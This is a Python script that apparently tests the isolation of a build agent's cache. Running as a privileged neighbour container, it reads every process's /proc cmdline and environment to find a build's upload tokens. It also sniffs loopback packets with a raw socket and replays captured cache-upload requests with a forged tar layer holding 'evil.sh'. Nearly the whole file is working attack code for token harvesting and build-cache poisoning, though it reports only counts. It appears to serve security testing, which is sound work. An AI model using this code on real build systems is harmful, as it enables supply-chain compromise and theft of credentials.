# A neighbour on the agent's engine: host network, host pid, NET_RAW. For the whole save it reads every
# process's argv and environment and captures loopback, looking for one build's upload tokens and its requests to
# the receiver; each request it sees it replays with its own bytes. It prints counts and HTTP statuses only, never
# what it read. Arguments: receiver port, base64url of the build id, seconds at most, the cache directory's layer path.
import glob, json, os, re, socket, sys, threading, time, urllib.request, hashlib, io, tarfile

port, build_b64, seconds, layer_path = int(sys.argv[1]), sys.argv[2].encode(), float(sys.argv[3]), sys.argv[4]
token_re = re.compile(re.escape(build_b64) + rb'\.[0-9]{1,4}\.[0-9]{6,18}\.[A-Za-z0-9_-]{20,}')
url_re = re.compile(rb'127\.0\.0\.1:' + str(port).encode() + rb'/nixpacks-cache/')
req_re = re.compile(rb'PUT (/nixpacks-cache/[^ ]+) HTTP/1\.1\r\n(.*?)\r\n\r\n', re.S)

def evil_layer(layer_path):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=tarfile.PAX_FORMAT) as t:
        data = b'#!/bin/sh\necho owned\n'
        info = tarfile.TarInfo(layer_path + '/evil.sh'); info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return out.getvalue()

def put(path, headers, body):
    req = urllib.request.Request('http://127.0.0.1:%d%s' % (port, path), data=body, method='PUT', headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except Exception as e:
        return 'error ' + type(e).__name__

stats = {'proc_reads': 0, 'tokens_in_proc': 0, 'receiver_url_in_proc': 0, 'packets': 0,
         'requests_seen': 0, 'attempts': []}
end = time.time() + seconds
stopping = lambda: time.time() >= end or os.path.exists('/tmp/stop')

def scan_proc():
    while not stopping():
        for p in glob.glob('/proc/[0-9]*'):
            for f in ('cmdline', 'environ'):
                try:
                    with open(p + '/' + f, 'rb') as fh:
                        data = fh.read()
                except Exception:
                    continue
                stats['proc_reads'] += 1
                stats['tokens_in_proc'] += len(token_re.findall(data))
                stats['receiver_url_in_proc'] += len(url_re.findall(data))
        time.sleep(0.3)

def attack(path, headers):
    layers, proof = headers.get('x-nixpacks-layers', ''), headers.get('x-nixpacks-proof', '')
    evil = evil_layer(layer_path)
    evil_list = 'sha256:%s:%d' % (hashlib.sha256(evil).hexdigest(), len(evil))
    # Our own layer under the sniffed proof; then the sniffed list and proof with our bytes of the same length.
    stats['attempts'].append(['own layers, sniffed proof',
                              put(path, {'X-Nixpacks-Layers': evil_list, 'X-Nixpacks-Proof': proof}, evil)])
    size = sum(int(x.rsplit(':', 1)[1]) for x in layers.split(',') if ':' in x)
    body = (evil * (size // len(evil) + 1))[:size]
    stats['attempts'].append(['sniffed headers, own bytes',
                              put(path, {'X-Nixpacks-Layers': layers, 'X-Nixpacks-Proof': proof}, body)])

threading.Thread(target=scan_proc, daemon=True).start()
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
try:
    raw.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE: keep up with everything on loopback
except OSError:
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
raw.settimeout(0.2)
seen = set()
attackers = []
draining = False
while True:
    if stopping() and not draining:
        draining = True  # read what the kernel still holds for us, for a few seconds, then stop
        drain_end = time.time() + 5
        raw.settimeout(1.0)
    if draining and time.time() > drain_end:
        break
    try:
        pkt = raw.recv(262144)
    except socket.timeout:
        if draining:
            break
        continue
    if len(pkt) < 54 or pkt[12:14] != b'\x08\x00' or pkt[23] != 6:
        continue
    ihl = (pkt[14] & 0x0f) * 4
    tcp = 14 + ihl
    dport = int.from_bytes(pkt[tcp + 2:tcp + 4], 'big')
    if dport != port:
        continue
    stats['packets'] += 1
    payload = pkt[tcp + ((pkt[tcp + 12] >> 4) * 4):]
    for m in req_re.finditer(payload):
        path = m.group(1).decode()
        if path in seen:
            continue
        seen.add(path)
        stats['requests_seen'] += 1
        headers = {}
        for line in m.group(2).split(b'\r\n'):
            k, _, v = line.partition(b':')
            headers[k.decode().strip().lower()] = v.decode().strip()
        t = threading.Thread(target=attack, args=(path, headers))
        t.start()
        attackers.append(t)
for t in attackers:
    t.join(30)
print('NEIGHBOUR ' + json.dumps(stats), flush=True)
